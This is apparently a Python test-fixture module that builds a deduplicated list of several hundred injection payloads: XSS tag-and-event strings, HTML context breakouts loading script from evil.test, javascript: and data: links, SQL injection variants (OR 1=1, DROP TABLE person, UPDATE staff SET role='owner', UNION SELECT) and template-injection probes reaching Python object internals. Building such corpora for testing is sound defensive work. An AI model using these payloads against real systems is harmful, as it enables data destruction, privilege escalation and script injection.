"""More than eight hundred strings that are written to break out of a page, a statement or a template."""

import re
from itertools import product

# A product that stands on no page unless something has worked it out.
SUM, WORKED_OUT = "7919*7907", "62615533"
MARK = re.compile(r"KX(\d+)Z")
TAGS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "iframe", "details open", "object", "a href=#",
        "math", "select autofocus", "marquee", "audio src=x", "textarea autofocus", "img/src=x")  # fmt: skip
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onbeforeinput",
)
SYNTAX = ("<{tag} {event}=alert(1)>", "\"><{tag} {event}='alert(1)' x=\"", "'><{tag}/{event}=alert(1)//")
BREAKOUTS = tuple(
    end + start
    for end, start in product(
        ("", "</textarea>", "</title>", "</style>", "</script>", "</option></select>", "-->", "]]>", '">', "'>"),
        ("<script>alert(1)</script>", "<ScRiPt src=//evil.test></sCrIpT>", '<a href="javascript:alert(1)">x</a>',
         "<form action=//evil.test><input type=submit>", "<base href=//evil.test>", "<style>*{color:red}</style>",
         "<meta http-equiv=refresh content=0;url=//evil.test>"),
    )
)  # fmt: skip
LINKS = tuple(
    shape.format(url)
    for shape, url in product(
        ("[x]({})", "<{}>", "![x]({})", '" onfocus="{}" x="', "{}"),
        (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<b>",
            "vbscript:x",
            "java&#09;script:alert(1)",
        ),
    )
)
SQL = tuple(
    start + middle + end
    for start, middle, end in product(
        ("'", '"', "1", "')", "\\'", "%' "),
        (" OR 1=1", " OR 'a'='a", "; DROP TABLE person", " UNION SELECT name_sealed FROM person", " AND 1=0",
         "; UPDATE staff SET role='owner'", " || (SELECT 1)", "; VACUUM", " OR sleep(5)", " LIMIT 1 OFFSET 1"),
        (" --", " #", " /*", ";", ""),
    )
)  # fmt: skip
TEMPLATES = (
    *tuple(
        shape.format(inner)
        for shape, inner in product(
            (
                "{{{{{}}}}}",
                "{{%print {}%}}",
                "${{{}}}",
                "#{{{}}}",
                "<%={}%>",
                "*{{{}}}",
                "@({})",
                "{{{{{}|safe}}}}",
            ),
            (
                SUM,
                "config",
                "''.__class__.__mro__",
                "request.application",
                "cycler.__init__.__globals__",
                "self",
            ),
        )
    ),
    "%(day)s",
    "%s%s%n",
    "{0}",
    "{name}",
    "{link}",
    "%",
    "{{",
    "}}",
    "{% endblock %}",
    "\\",
    "&lt;b&gt;",
    "&#60;b&#62;",
)
WORDS = tuple(
    dict.fromkeys(
        [form.format(tag=tag, event=event) for form, tag, event in product(SYNTAX, TAGS, EVENTS)]
        + [*BREAKOUTS, *LINKS, *SQL, *TEMPLATES]
    )
)
